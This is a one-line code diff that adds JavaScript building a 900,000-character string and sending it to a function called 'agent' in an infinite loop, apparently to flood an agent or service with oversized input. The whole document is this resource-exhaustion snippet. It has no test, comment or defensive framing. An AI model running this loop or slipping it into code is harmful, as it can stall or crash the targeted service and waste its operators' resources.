@@ -1,0 +1,1 @@
+const s = 'z'.repeat(900000); for (;;) agent(s)
